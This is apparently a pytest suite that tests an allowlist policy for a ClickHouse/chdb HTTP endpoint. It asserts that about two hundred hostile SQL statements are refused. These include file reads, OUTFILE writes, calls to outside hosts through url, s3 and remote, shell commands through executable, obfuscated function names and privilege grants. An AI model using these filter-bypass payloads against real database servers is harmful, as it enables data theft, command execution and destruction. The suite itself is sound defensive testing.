"""Nothing reaches files, other servers or programs: on no port, by no statement of any kind.

The sweeps take their names from the engine itself, so what a new version brings is attacked too.
"""

# ruff: noqa: E501 - an attempt is easier to judge on one line

import socket
import threading
from contextlib import closing

import pytest

from infra.chdb_http.policy import operator_allowlist

SECRET = "top-secret-of-this-machine"  # noqa: S105 - of a test


@pytest.fixture(scope="module")
def machine(server, tmp_path_factory):
    """Something to read, a folder to write into, and a table."""
    folder = tmp_path_factory.mktemp("machine")
    (folder / "secret.csv").write_text(f"{SECRET}\n")
    server.sql("CREATE TABLE tutti.target (a UInt64, b String) ENGINE = MergeTree ORDER BY a")
    server.sql("CREATE VIEW marts.shown AS SELECT a FROM tutti.target")
    yield folder
    server.sql("DROP VIEW marts.shown")
    server.sql("DROP TABLE tutti.target SYNC")


@pytest.fixture(scope="module")
def stranger():
    """Another server: its address, and the connections that reached it."""
    reached = list[bytes]()
    with closing(socket.create_server(("127.0.0.1", 0))) as listener:

        def accept():
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    reached.append(b"connected")

        threading.Thread(target=accept, daemon=True).start()
        yield f"127.0.0.1:{listener.getsockname()[1]}", reached


READS = [
    "SELECT arrayMap(file, ['{file}'])", "SELECT arrayMap(`file`, ['{file}'])", "SELECT arrayMap(`f\\x69le`, ['{file}'])", "WITH file AS f SELECT arrayMap(f, ['{file}'])", "SELECT arraySort(file, ['{file}', '{file}'])",
    "SELECT arrayMap({{n:Identifier}}, ['{file}'])", "SELECT arrayMap(file, ['{file}']) AS `a\n ExpressionList (x`", "WITH file AS `f\n` SELECT arrayMap(`f\n`, ['{file}'])", "SELECT mapApply(file, map('{file}', '{file}'))",
    "SELECT arrayMap(aiGenerate, ['x'])", "SELECT arrayFilter(x -> 1, arrayMap(file, ['{file}']))", "SELECT 1 AS a WHERE 'a' IN format(Values, 'x String', '(file(\\'{file}\\'))')",
    "SELECT * FROM format(Values, 'x String', $$((SELECT file('{file}')))$$)", "SELECT * FROM format('Values', 'x String', $$(file('{file}'))$$)", "SELECT * FROM format(concat('Val', 'ues'), 'x String', $$(file('{file}'))$$)",
    "SELECT * FROM format('JSONEachRow', 'a String, x String DEFAULT file(\\'{file}\\')', '{{\"a\":\"1\"}}')", "SELECT * FROM mergeTreeIndex('default', '{file}')", "SELECT joinGet('default.{file}', 'a', 1)",
    "DESCRIBE TABLE format(Values, $$(file('{file}'))$$)",
    "SELECT * FROM file('{file}', 'CSV', 'a String')", "SELECT * FROM `file`('{file}', CSV)", "SELECT * FROM FILE('{file}')",
    "SELECT * FROM file/**/('{file}')", "DESCRIBE file('{file}')", "DESCRIBE TABLE file('{file}')", "EXPLAIN SELECT * FROM file('{file}')",
    "EXPLAIN AST SELECT * FROM file('{file}')", "EXPLAIN QUERY TREE SELECT * FROM file('{file}')", "EXPLAIN ESTIMATE SELECT * FROM file('{file}')",
    "SELECT file('{file}')", 'SELECT "file"(\'{file}\')', "SELECT `f\\x69le`('{file}')", "SELECT arrayMap(x -> file(x), ['{file}'])",
    "SELECT * FROM (SELECT 1 AS x) WHERE file('{file}') != ''", "WITH file('{file}') AS x SELECT x", "SELECT (SELECT file('{file}'))",
    "SELECT * APPLY(x -> file(x)) FROM (SELECT '{file}')", "SELECT * APPLY file FROM (SELECT '{file}')", "SELECT * APPLY(file) FROM (SELECT '{file}')",
    "SELECT * FROM default.`{file}`", "SELECT * FROM `default`.`{file}`", "SELECT * FROM \"default\".'{file}'", "SELECT * FROM `{file}`", "SELECT * FROM '{file}'",
    "SELECT 'x' IN default.`{file}`", "SELECT in('x', default.`{file}`)", "WITH default.`{file}` AS t SELECT * FROM t", "DESCRIBE default.`{file}`", "SELECT * FROM {{t:Identifier}}",
    "SELECT * FROM {{d:Identifier}}.{{f:Identifier}}", "SELECT * FROM merge('default', '.*')", "EXISTS default.`{file}`", "SELECT hasColumnInTable('default', '{file}', 'c1')",
    "SELECT * FROM loop('default', '{file}')", "SELECT * FROM view(SELECT * FROM default.`{file}`)", "SELECT * FROM viewExplain('EXPLAIN', '', (SELECT * FROM file('{file}')))",
    "SELECT * FROM filesystem('{folder}')", "SELECT * FROM sqlite('{file}', 't')", "SELECT * FROM executable('cat {file}', CSV, 'a String')", "SELECT * FROM eval('SELECT 1')",
    "SELECT * FROM url('http://{address}/', CSV, 'a String')", "SELECT * FROM s3('http://{address}/b/k', CSV, 'a String')", "SELECT * FROM remote('{address}', tutti.target)",
    "SELECT * FROM remoteSecure('{address}', tutti, target)", "SELECT * FROM cluster('default', tutti.target)", "SELECT * FROM mysql('{address}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM postgresql('{address}', 'a', 'b', 'c', 'd')", "SELECT * FROM redis('{address}', 'k', 'k String')", "SELECT * FROM mongodb('{address}', 'a', 'b', 'c', 'd', 'e String')",
    "SELECT hasColumnInTable('{address}', 'tutti', 'target', 'a')", "SELECT * FROM python(request)", "SELECT * FROM Python(request)", "SELECT aiGenerate('x')", "SELECT reverseDNSQuery('127.0.0.1')",
    "SELECT 1 INTO OUTFILE '{folder}/out'", "SELECT 1 INTO OUTFILE '{folder}/out' FORMAT CSV", "SELECT 1 INTO/**/OUTFILE '{folder}/out' TRUNCATE COMPRESSION 'gzip'", "EXPLAIN SELECT 1 INTO OUTFILE '{folder}/out'",
    "SHOW TABLES INTO OUTFILE '{folder}/out'", "DESCRIBE tutti.target INTO OUTFILE '{folder}/out'", "(SELECT 1) INTO OUTFILE '{folder}/out' AND STDOUT", "SELECT 1 FORMAT CSV INTO OUTFILE '{folder}/out'",
    "SELECT 1 FORMAT Template SETTINGS format_template_row = '{file}'", "SELECT 1 AS a FORMAT Template SETTINGS format_template_resultset = '{file}'", "SELECT 1 AS a SETTINGS format_template_resultset = '{file}' FORMAT Template",
    "SELECT 1 AS a FORMAT Protobuf SETTINGS format_schema = '{file}:x'", "SELECT 1 AS a FORMAT CapnProto SETTINGS output_format_schema = '{folder}/out'", "SELECT * FROM (SELECT 1 AS a SETTINGS format_template_row = '{file}')",
    "SELECT a FROM tutti.target SETTINGS additional_table_filters = {{'tutti.target': 'file(\\'{file}\\') != \\'\\''}}", "SELECT 1 SETTINGS additional_result_filter = 'file(\\'{file}\\') != \\'\\''",
    "SELECT 1 SETTINGS filter = 'file(\\'{file}\\') = \\'\\''", "SELECT 1 SETTINGS select = 'file(\\'{file}\\')'", "SELECT 1 SETTINGS `select` = 'file(\\'{file}\\')'", "SELECT 1 SETTINGS dialect = 'prql'", "SELECT 1 SETTINGS max_threads = 1, database = 'default'",
]  # fmt: skip

WRITES = [
    "INSERT INTO tutti.target SELECT 1, y FROM input('x String, y String DEFAULT file(\\'{file}\\')') FORMAT JSONEachRow {{\"x\":\"1\"}}", "INSERT INTO tutti.target SELECT 1, y FROM input(concat('x String, y String DEF', 'AULT file(\\'{file}\\')')) FORMAT JSONEachRow {{\"x\":\"1\"}}",
    "CREATE TABLE local.x (c1 String) ENGINE = Buffer('default', '{file}', 1, 0, 1, 0, 1, 0, 1)", "CREATE VIEW local.x AS SELECT * FROM format(Values, 'x String', $$(file('{file}'))$$)", "CREATE TABLE local.x AS format(Values, 'x String', $$(file('{file}'))$$)",
    "INSERT INTO FUNCTION file('{folder}/out', CSV, 'a String') SELECT 'x'", "INSERT INTO TABLE FUNCTION file('{folder}/out', CSV, 'a String') VALUES ('x')", "INSERT INTO FUNCTION file('{folder}/out', CSV, 'a String') FORMAT CSV\nx",
    "INSERT INTO FUNCTION url('http://{address}/', CSV, 'a String') SELECT b FROM tutti.target", "INSERT INTO FUNCTION s3('http://{address}/b/k', CSV, 'a String') SELECT 'x'", "INSERT INTO FUNCTION remote('{address}', tutti.target) SELECT 1, 'x'",
    "INSERT INTO FUNCTION executable('touch {folder}/out', CSV, 'a String') VALUES ('x')", "INSERT INTO default.`{folder}/out.csv` SELECT 'x'", "INSERT INTO default.`{folder}/out.csv` VALUES ('x')", "INSERT INTO `default`.`{file}` FORMAT CSV\nx",
    "INSERT INTO tutti.target FROM INFILE '{file}' FORMAT CSV", "INSERT INTO tutti.target (b) FROM INFILE '{file}' COMPRESSION 'none' FORMAT CSV", "INSERT INTO tutti.target VALUES (1, file('{file}'))", "INSERT INTO tutti.target VALUES (1, 'x'), (2, (SELECT file('{file}')))",
    "INSERT INTO tutti.target VALUES (1, `f\\x69le`('{file}'))", "INSERT INTO tutti.target FORMAT Values (1, \"file\"('{file}'))", "INSERT INTO tutti.target FORMAT values (1, file /**/ ('{file}'))", "INSERT INTO tutti.target VALUES (1, (SELECT * FROM default.`{file}`))", "INSERT INTO tutti.target VALUES (1, toString('x' IN {{t:Identifier}}))", "INSERT INTO tutti.target VALUES (1, toString('x' IN default.`{file}`))", "INSERT INTO tutti.target VALUES (1, toString(hasColumnInTable('default', '{file}', 'c1')))",
    "INSERT INTO tutti.target SELECT 1, b FROM input('b String') FORMAT Values (file('{file}'))", "INSERT INTO tutti.target SELECT 1, * FROM file('{file}', CSV, 'a String')", "INSERT INTO tutti.target WITH file('{file}') AS x SELECT 1, x", "INSERT INTO tutti.target SETTINGS input_format_record_errors_file_path = '{folder}/out' FORMAT CSV 1,x",
    "INSERT INTO tutti.target SETTINGS format_schema = '{file}:x' FORMAT Protobuf x", "CREATE TABLE local.x ENGINE = File(CSV, '{file}') AS SELECT 1", "CREATE TABLE local.x (a String) ENGINE = URL('http://{address}/', CSV)", "CREATE TABLE local.x (a String) ENGINE = S3('http://{address}/b/k', CSV)",
    "CREATE TABLE local.x AS file('{file}')", "CREATE TABLE local.x AS default.`{file}`", "CREATE TABLE local.x CLONE AS default.`{file}`", "CREATE TABLE default.x (a UInt8) ENGINE = Memory", "CREATE TABLE local.x ENGINE = Memory AS SELECT * FROM file('{file}')", "CREATE VIEW local.x AS SELECT * FROM file('{file}')",
    "CREATE VIEW local.x AS SELECT file('{file}')", "CREATE VIEW local.x AS SELECT * FROM default.`{file}`", "CREATE MATERIALIZED VIEW local.x ENGINE = File(CSV) AS SELECT 1", "CREATE MATERIALIZED VIEW local.x TO default.`{folder}/out.csv` AS SELECT b FROM tutti.target", "CREATE MATERIALIZED VIEW local.x REFRESH EVERY 1 SECOND ENGINE = Memory AS SELECT file('{file}')",
    "CREATE TABLE local.x (a String DEFAULT file('{file}')) ENGINE = Memory", "CREATE TABLE local.x (a String, CONSTRAINT c CHECK file(a) != '') ENGINE = Memory", "CREATE TABLE local.x (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'local', path = '{folder}/')", "CREATE TABLE local.x (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS storage_policy = 'x'",
    "CREATE TABLE local.x (a Date) ENGINE = MergeTree ORDER BY a TTL a TO DISK 'x'", "CREATE TABLE local.x ON CLUSTER c (a UInt8) ENGINE = Memory", "CREATE DICTIONARY local.x (a UInt8) PRIMARY KEY a SOURCE(FILE(PATH '{file}' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(0)", "CREATE DICTIONARY local.x (a UInt8) PRIMARY KEY a SOURCE(HTTP(URL 'http://{address}/' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE DICTIONARY local.x (a UInt8) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'cat {file}' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(0)", "CREATE DICTIONARY local.x (a UInt8) PRIMARY KEY a SOURCE(CLICKHOUSE(HOST '127.0.0.1' QUERY 'SELECT file(\\'{file}\\')')) LAYOUT(FLAT()) LIFETIME(0)", "CREATE FUNCTION reach AS x -> file(x)", "CREATE OR REPLACE FUNCTION reach AS () -> file('{file}')",
    "CREATE DATABASE x ENGINE = Filesystem('{folder}')", "CREATE DATABASE x ENGINE = SQLite('{file}')", "CREATE DATABASE x ENGINE = MySQL('{address}', 'a', 'b', 'c')", "CREATE DATABASE x ENGINE = URL('http://{address}/')", "CREATE DATABASE x ENGINE = Atomic SETTINGS disk = 'x'", "DROP DATABASE default", "DETACH DATABASE default", "RENAME TABLE tutti.target TO default.x",
    "BACKUP TABLE tutti.target TO File('{folder}/out')", "BACKUP DATABASE tutti TO Disk('default', 'out')", "BACKUP TABLE tutti.target TO S3('http://{address}/b/k')", "RESTORE TABLE tutti.x FROM File('{file}')", "BACKUP TABLE tutti.target TO Memory('x')", "ATTACH TABLE local.x FROM '{folder}' (a UInt8) ENGINE = MergeTree ORDER BY a",
    "ATTACH TABLE local.x UUID '11111111-1111-1111-1111-111111111111' (a String) ENGINE = File(CSV, '{file}')", "ATTACH DATABASE x ENGINE = Filesystem('{folder}')", "ALTER TABLE tutti.target ADD COLUMN c String DEFAULT file('{file}')", "ALTER TABLE tutti.target UPDATE b = file('{file}') WHERE 1", "ALTER TABLE tutti.target DELETE WHERE file('{file}') != ''", "ALTER TABLE tutti.target MODIFY SETTING storage_policy = 'x'", "ALTER TABLE tutti.target MODIFY SETTING disk = '{folder}'",
    "ALTER TABLE tutti.target FREEZE", "ALTER TABLE tutti.target FREEZE PARTITION 1 WITH NAME '../../x'", "ALTER TABLE tutti.target UNFREEZE WITH NAME 'x'", "ALTER TABLE tutti.target FETCH PARTITION 1 FROM '/x'", "ALTER TABLE tutti.target MOVE PARTITION tuple() TO DISK 'x'", "ALTER TABLE tutti.target MOVE PARTITION tuple() TO VOLUME 'x'", "ALTER TABLE tutti.target EXPORT PART 'all_1_1_0' TO TABLE tutti.x", "DELETE FROM tutti.target WHERE file('{file}') != ''", "UPDATE tutti.target SET b = file('{file}') WHERE 1",
    "SYSTEM SHUTDOWN", "SYSTEM KILL", "SYSTEM RELOAD CONFIG", "SYSTEM RELOAD DICTIONARIES", "SYSTEM UNFREEZE WITH NAME 'x'", "SYSTEM ENABLE FAILPOINT x", "SYSTEM SYNC FILE CACHE", "SYSTEM JEMALLOC FLUSH PROFILE", "SYSTEM START LISTEN HTTP", "CREATE NAMED COLLECTION x AS url = 'http://{address}/'", "CREATE USER x IDENTIFIED WITH plaintext_password BY 'x'", "GRANT ALL ON *.* TO default", "SET GLOBAL x = 1", "COPY tutti.target TO '{folder}/out'", "SELECT 1 PARALLEL WITH SELECT file('{file}')", "EXECUTE AS default SELECT 1",
]  # fmt: skip

PORTS = [("operators", "POST"), ("operators", "GET"), ("operators", "HEAD"), ("analysts", "POST"), ("analysts", "GET")]  # fmt: skip


@pytest.mark.parametrize("sql", [*READS, *WRITES])
def test_a_hostile_statement_is_refused_on_every_port(server, machine, stranger, sql):
    address, reached = stranger
    file = machine / "secret.csv"
    text = sql.format(file=file, folder=machine, address=address)
    params = {
        "param_t": f"default.{file}",
        "param_d": "default",
        "param_f": str(file),
        "param_n": "file",
    }
    for port, method in PORTS:
        analyst = port == "analysts"
        if method == "POST":
            reply = server.ask(body=text, analyst=analyst, **params)
        else:
            reply = server.ask(method=method, analyst=analyst, query=text, **params)
        # Refused by the policy, or unknown to this version of the engine; never tried.
        assert reply.code in {46, 48, 60, 62, 164, 497, 636}, (port, method, reply.text)
        assert SECRET not in reply.text
    assert file.read_text() == f"{SECRET}\n"
    assert [found.name for found in machine.iterdir()] == ["secret.csv"]
    assert not reached
    assert server.sql("SELECT count() FROM tutti.target") == "0"
    assert server.sql("SELECT count() FROM system.tables WHERE database = 'local'") == "0"


def names(server, table: str, allowed: frozenset[str]) -> list[str]:
    found = server.sql(f"SELECT name FROM system.{table}").splitlines()
    return sorted(set(found) - allowed)


def denied(reply) -> bool:
    return (reply.status, reply.code) == (403, 497)


def test_every_other_table_function_of_the_engine_is_closed(server):
    found = names(server, "table_functions", operator_allowlist.TABLE_FUNCTIONS)
    assert {"file", "url", "s3", "remote", "executable", "python"} <= set(found)
    for name in found:
        for sql in ("SELECT * FROM {}('x')", "DESCRIBE {}('x')", "CREATE TABLE local.x AS {}('x')"):
            reply = server.ask(body=sql.format(name))
            assert denied(reply) or reply.code == 62, (name, reply.text)
        reply = server.ask(body=f"INSERT INTO FUNCTION {name}('x') SELECT 1")
        assert denied(reply) or reply.code == 62, (name, reply.text)


def test_every_other_function_of_the_engine_is_closed(server):
    listed = ", ".join(f"'{name}'" for name in operator_allowlist.CATEGORIES)
    of_the_engine = "FROM system.functions WHERE origin = 'System'"
    others = f"{of_the_engine} AND NOT is_aggregate AND categories NOT IN ({listed})"
    rows = server.sql(f"SELECT name {others}").splitlines()
    closed = [name for name in rows if denied(server.ask(body=f"SELECT `{name}`('x')"))]
    assert {"file", "aiGenerate", "hasColumnInTable", "regionToName", "addressToLine"} <= {*closed}
    # Nearly all compute from their arguments: too many closed ones would be in people's way.
    assert len(closed) < int(server.sql(f"SELECT count() {of_the_engine}")) / 8
    for name in closed:
        assert denied(server.ask(body=f"INSERT INTO tutti.nothing VALUES ({name}('x'))")), name


def test_every_other_engine_is_closed(server):
    tables = names(server, "table_engines", operator_allowlist.TABLE_ENGINES)
    assert {"File", "URL", "S3", "Executable", "Kafka", "Distributed", "EmbeddedRocksDB"} <= {
        *tables
    }
    for name in tables:
        reply = server.ask(body=f"CREATE TABLE local.x (a UInt8) ENGINE = {name}('x')")
        assert denied(reply) or name == "Kafka", (name, reply.text)
        assert reply.status in {400, 403}
    for name in names(server, "database_engines", operator_allowlist.DATABASE_ENGINES):
        assert denied(server.ask(body=f"CREATE DATABASE x ENGINE = {name}('x')")), name


def test_every_setting_that_can_hold_a_path_or_an_expression_is_closed(server):
    sql = (
        "SELECT name FROM system.settings WHERE match(name, '(path|schema|file|template|url|filter|"
        "disk|select)') AND type IN ('String', 'Map', 'URI') AND name NOT IN"
        " ('schema_inference_hints', 'column_names_for_schema_inference', 'temporary_files_codec')"
        " AND name NOT LIKE '%delimiter'"
    )
    found = server.sql(sql).splitlines()
    assert {"format_schema", "additional_result_filter", "select", "filter"} <= {*found}
    assert denied(server.ask(body="SELECT 1", dialect="prql"))
    for name in found:
        assert denied(server.ask(body="SELECT 1", **{name: "x"})), name
        for clause in (
            "SELECT 1 SETTINGS {} = 'x'",
            "SELECT 1 FORMAT CSV SETTINGS a = 1, `{}` = 1",
        ):
            assert denied(server.ask(body=clause.format(name))), name


OPERATORS = [
    "CREATE TABLE local.o (a UInt64 CODEC(Delta, ZSTD(1)), b LowCardinality(String) DEFAULT 'x', d Date, e String TTL d + INTERVAL 1 DAY, INDEX i b TYPE bloom_filter(0.01) GRANULARITY 1, PROJECTION p (SELECT b, count() GROUP BY b)) ENGINE = ReplacingMergeTree(a) PARTITION BY toYYYYMM(d) ORDER BY (b, a) TTL d + INTERVAL 1 YEAR SETTINGS index_granularity = 1024, deduplicate_merge_projection_mode = 'rebuild', lightweight_mutation_projection_mode = 'rebuild', default_compression_codec = 'LZ4'",
    "INSERT INTO local.o (a, b) VALUES (1, 'x'), (1 + 1, concat('y', toString(now())))", "INSERT INTO local.o (a, b, d) SETTINGS max_insert_threads = 1 VALUES (3, 'z', '2026-01-01')", "INSERT INTO local.o (a) SELECT number FROM numbers(3)", "INSERT INTO local.o (a) SELECT x FROM input('x UInt8') FORMAT CSV 1",
    "CREATE VIEW local.v AS SELECT * FROM local.o WHERE a > {m:UInt64}", "SELECT count() FROM local.v(m = 0)", "CREATE OR REPLACE VIEW local.v AS SELECT a, b AS `agree / disagree` FROM local.o", "SELECT `agree / disagree` FROM local.v ORDER BY `agree / disagree`", "CREATE MATERIALIZED VIEW local.mv (s UInt64) ENGINE = SummingMergeTree ORDER BY s AS SELECT sum(a) AS s FROM local.o",
    "CREATE MATERIALIZED VIEW local.r REFRESH EVERY 1 DAY ENGINE = MergeTree ORDER BY n AS SELECT count() AS n FROM local.o", "SYSTEM REFRESH VIEW local.r", "SYSTEM WAIT VIEW local.r", "SYSTEM STOP MERGES local.o", "SYSTEM START MERGES local.o", "SYSTEM DROP MARK CACHE", "ALTER TABLE local.o ADD COLUMN c String DEFAULT upper(b)", "ALTER TABLE local.o MODIFY COLUMN c COMMENT 'x'", "ALTER TABLE local.o UPDATE c = 'y' WHERE a = 1", "ALTER TABLE local.o MODIFY SETTING merge_with_ttl_timeout = 3600",
    "ALTER TABLE local.o DROP COLUMN c", "DELETE FROM local.o WHERE a = 1", "OPTIMIZE TABLE local.o FINAL", "CHECK TABLE local.o", "SHOW CREATE TABLE local.o", "SHOW PROCESSLIST", "SHOW COLUMNS FROM local.o", "DETACH TABLE local.o", "ATTACH TABLE local.o", "RENAME TABLE local.o TO local.p", "EXISTS TABLE local.p", "CREATE FUNCTION plus_one AS x -> x + 1", "SELECT plus_one(1), getSetting('max_threads'), hostName(), sleep(0)", "DROP FUNCTION plus_one",
    "SELECT 1 AS a FORMAT JSON SETTINGS max_threads = 1, output_format_json_quote_64bit_integers = 0", "SELECT 'file(x)', 'INTO OUTFILE', 1 AS outfile, 2 AS settings, 3 AS url", "CREATE TABLE local.url (file String, remote UInt8) ENGINE = Memory", "INSERT INTO local.url (file, remote) VALUES ('x', 1)", "SELECT file, url.remote FROM local.url WHERE file = 'x'", "SELECT * FROM merge('local', '^url$')", "SELECT * FROM generateRandom('a UInt8') LIMIT 1", "EXPLAIN SELECT * FROM local.url", "KILL QUERY WHERE query_id = 'nobody'", "KILL MUTATION WHERE 0",
    "TRUNCATE TABLE local.url", "DROP TABLE local.url", "DROP TABLE local.r SYNC", "DROP TABLE local.mv SYNC", "DROP VIEW local.v", "DROP TABLE local.p SYNC", "CREATE DATABASE local_too ENGINE = Atomic COMMENT 'x'", "DROP DATABASE local_too",
]  # fmt: skip


def test_operators_work_as_before(server):
    for sql in OPERATORS:
        reply = server.ask(body=sql)
        assert reply.status == 200, (sql, reply.text)


def test_a_name_without_its_database_is_no_file(server, machine):
    """Not even one in the folder in which the server runs."""
    (server.home / "here.csv").write_text(f"{SECRET}\n")
    for database in ("", "default", "local", "tutti"):
        reply = server.ask(body="SELECT * FROM `here.csv`", database=database)
        assert reply.code == 60, reply.text


def test_what_was_admitted_once_is_admitted_by_post_only(server):
    """Verdicts are kept, and belong to the method."""
    sql = "KILL MUTATION WHERE 0"  # which the engine would run, read-only or not
    assert server.ask(body=sql).status == 200
    assert server.ask(method="GET", query=sql).code == 164
    assert server.ask(body="SELECT * FROM {t:Identifier}", param_t="tutti.target").status in {
        200,
        404,
    }
    assert denied(server.ask(body="SELECT * FROM {t:Identifier}", param_t="default.x"))


EFFECTS = [
    "KILL QUERY WHERE query_id = 'victim'", "KILL QUERY WHERE 1", "SYSTEM STOP MERGES", "SYSTEM DROP MARK CACHE", "INSERT INTO tutti.target VALUES (1, 'x')", "INSERT INTO tutti.target SELECT 1, 'x'",
    "INSERT INTO FUNCTION null('a UInt8') SELECT 1", "CREATE TABLE local.x (a UInt8) ENGINE = Memory", "DROP TABLE tutti.target", "TRUNCATE TABLE tutti.target", "OPTIMIZE TABLE tutti.target", "CHECK TABLE tutti.target",
    "CREATE FUNCTION effect AS x -> x", "ALTER TABLE tutti.target ADD COLUMN c UInt8", "WITH 1 AS x INSERT INTO tutti.target SELECT x, 'x'", "RENAME TABLE tutti.target TO tutti.x", "DETACH TABLE tutti.target", "SET max_threads = 1",
]  # fmt: skip


@pytest.mark.usefixtures("machine")
@pytest.mark.parametrize("method", ["GET", "HEAD"])
@pytest.mark.parametrize("analyst", [False, True])
@pytest.mark.parametrize("sql", EFFECTS)
def test_get_and_head_have_no_effect(server, sql, method, analyst):
    reply = server.ask(method=method, query=sql, analyst=analyst)
    assert reply.status in {403, 501}, sql
    # What the method forbids does not come in a body either.
    assert server.ask(method=method, body=sql, analyst=analyst, query="").status in {200, 403, 501}
    assert server.sql("SELECT count() FROM tutti.target") == "0"


def test_only_functions_of_arrays_and_maps_call_another_by_its_name(server):
    """A new version of the engine may bring others: then `_called_by_name` has to know them."""
    names = server.sql(
        "SELECT name FROM system.functions WHERE origin = 'System' AND NOT match(name, '^(array|map)')"
    )
    for name in names.splitlines():
        for arguments in ("upper, ['a']", "['a'], upper"):
            reply = server.ask(body=f"SELECT `{name}`({arguments})")
            assert reply.status != 200, (name, arguments)
